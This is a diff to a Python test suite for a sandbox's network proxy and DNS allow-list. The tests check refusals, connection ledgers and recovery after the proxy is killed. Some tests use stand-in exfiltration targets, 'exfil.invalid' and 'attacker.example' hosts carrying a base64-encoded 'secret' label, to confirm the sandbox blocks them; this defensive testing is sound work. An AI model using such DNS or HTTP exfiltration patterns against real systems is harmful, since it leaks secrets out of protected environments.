@@ -53,6 +53,7 @@ class _Served(http.server.BaseHTTPRequestHandler):
                 while True:
                     self.wfile.write(b"." * 65536)
                     time.sleep(0.01)
+            return
         self.send_response(200)
         self.send_header("Content-Length", str(len(BODY)))
         self.end_headers()
@@ -130,6 +131,11 @@ def test_through_the_proxy_a_granted_host_server_is_reached_and_recorded_with_it
     assert receipt["network"]["allow_hosts"] == [grant]
     said = rt.explain(task.task)
     assert said["sessions"][0]["network"] == ledger["summary"]
+    assert rt.session_status(receipt["session"])["network"] == ledger["summary"]
+    closed = rt.close_task(task.task)
+    assert closed.complete and closed.receipt is not None
+    (session,) = closed.receipt["sessions"]
+    assert session["network"] == ledger["summary"]
     assert f"network through the proxy: 1 connection to {grant}, closed" in said["words"]
 
 
@@ -150,11 +156,14 @@ def test_a_host_not_allowed_is_refused_with_403_and_recorded(
         f"1 refused to 127.0.0.1:{host_server}; 1 refused to 169.254.169.254:80"
     )
     receipt, out, _ = attack(
-        rt, task, f"{VIA_PROXY} http://127.0.0.1:{host_server}/",
+        rt, task, f"{VIA_PROXY} http://127.0.0.1:{host_server}/; "
+        f"{VIA_PROXY} http://c2VjcmV0.exfil.invalid/",
         allow_hosts=["pypi.org"],
     )  # fmt: skip
-    assert out.startswith("403"), out
-    assert "matches no --allow-host" in _ledger(receipt)["entries"][0]["why"]
+    assert out.count("403 ") == 2, out
+    first, second = _ledger(receipt)["entries"]
+    assert "matches no --allow-host" in first["why"]
+    assert second["host"] == "c2vjcmv0.exfil.invalid" and "not resolved" in second["why"]
 
 
 def test_a_download_killed_by_its_timeout_is_unknown_in_the_ledger(
@@ -265,6 +274,19 @@ def test_decide_lets_a_wildcard_reach_no_host_service(
     assert (netpolicy.decide(patterns, host, port, address, own) is None) is allowed
 
 
+def test_a_name_no_pattern_allows_is_never_resolved() -> None:
+    """Asked before any DNS query: a name that no pattern names leaves no query either (DNS
+    is a channel out of its own); an address pattern matches that address asked for, never a
+    name that resolves to it."""
+    assert netpolicy.may_resolve((), "anything.example", 443) is None
+    assert netpolicy.may_resolve(("pypi.org",), "pypi.org", 443) is None
+    assert netpolicy.may_resolve(("*.pythonhosted.org:443",), "files.pythonhosted.org", 443) is None
+    why = netpolicy.may_resolve(("pypi.org",), "c2VjcmV0.attacker.example", 443)
+    assert why is not None and "not resolved" in why
+    assert netpolicy.may_resolve(("pypi.org:443",), "pypi.org", 80) is not None
+    assert netpolicy.decide(("10.0.0.7",), "db.example", 5432, "10.0.0.7", False) is not None
+
+
 def test_the_ledger_trusts_an_end_only_before_the_kill() -> None:
     events = [
         {"e": "open", "id": 1, "host": "a.org", "port": 443, "kind": "connect"},
@@ -292,3 +314,54 @@ def test_the_proxy_env_points_every_tool_at_the_tasks_proxy() -> None:
     for name in ("HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "http_proxy", "https_proxy"):
         assert env[name] == f"http://127.0.0.1:{netpolicy.PROXY_PORT}"
     assert env["no_proxy"] == env["NO_PROXY"] == "localhost,127.0.0.1,::1"
+
+
+def test_a_proxy_killed_mid_download_leaves_its_owner_a_true_receipt_and_a_next_session_a_proxy(
+    rt: Runtime, task: TaskRecord, host_server: int
+) -> None:
+    """The proxy dies (SIGKILL) under a session's download: the owner still seals what was
+    written, the connection it never saw end is unknown, the receipt says the proxy did not
+    answer; the task's next session gets a proxy again."""
+    grant = f"127.0.0.1:{host_server}"
+    admission = rt.exec(
+        task.task, shell=f"{VIA_PROXY} http://{grant}/forever", allow_hosts=[grant], timeout=30
+    )
+    lock = Path(rt.home, "run", "netproxy.sock.lock")
+    ledger_file = Path(rt.home, "sessions", admission.session, netledger.LEDGER_NAME)
+    deadline = time.monotonic() + 20
+    while b'"open"' not in (ledger_file.read_bytes() if ledger_file.exists() else b""):
+        assert time.monotonic() < deadline, "the download never began"
+        time.sleep(0.05)
+    os.kill(int(lock.read_text()), 9)
+    receipt = rt.wait(admission.session, timeout=60)["receipt"]
+    assert receipt["death"]["proven"]
+    assert "did not answer" in receipt["network"]["proxy_trouble"]
+    assert _ledger(receipt)["ends"] == {"unknown": 1}
+    receipt, out, _ = attack(rt, task, f"{VIA_PROXY} http://{grant}/", allow_hosts=[grant])
+    assert out == f"200 {len(BODY)}\n" and _ledger(receipt)["ends"] == {"closed": 1}
+
+
+def test_a_proxy_that_cannot_listen_in_the_task_refuses_the_session_naming_why(
+    rt: Runtime, task: TaskRecord
+) -> None:
+    """A command of the task (under --network none, before any proxy session) holds the
+    proxy's port in the task's namespace: the next proxy session is refused at isolation,
+    naming the port, and nothing of it runs."""
+    holder = rt.exec(
+        task.task, network="none", service=True,
+        shell="exec python3 -c 'import socket,time\ns=socket.socket()\n"
+        f"s.bind((\"127.0.0.1\",{netpolicy.PROXY_PORT}))\ns.listen()\nprint(1,flush=True)\n"
+        "time.sleep(60)'",
+    )  # fmt: skip
+    deadline = time.monotonic() + 20
+    while rt.read(holder.session, "stdout") != b"1\n":
+        assert time.monotonic() < deadline, rt.read(holder.session, "stderr")
+        time.sleep(0.05)
+    admission = rt.exec(task.task, shell="echo RAN")
+    receipt = rt.wait(admission.session, timeout=60)["receipt"]
+    assert receipt["exit"]["reason"] == "not_started", receipt["exit"]
+    assert receipt["exit"]["stage"] == "isolation"
+    assert f"127.0.0.1:{netpolicy.PROXY_PORT}" in receipt["exit"]["error"]
+    assert rt.read(admission.session, "stdout") == b""
+    rt.cancel(holder.session, "test over")
+    rt.wait(holder.session, timeout=60)
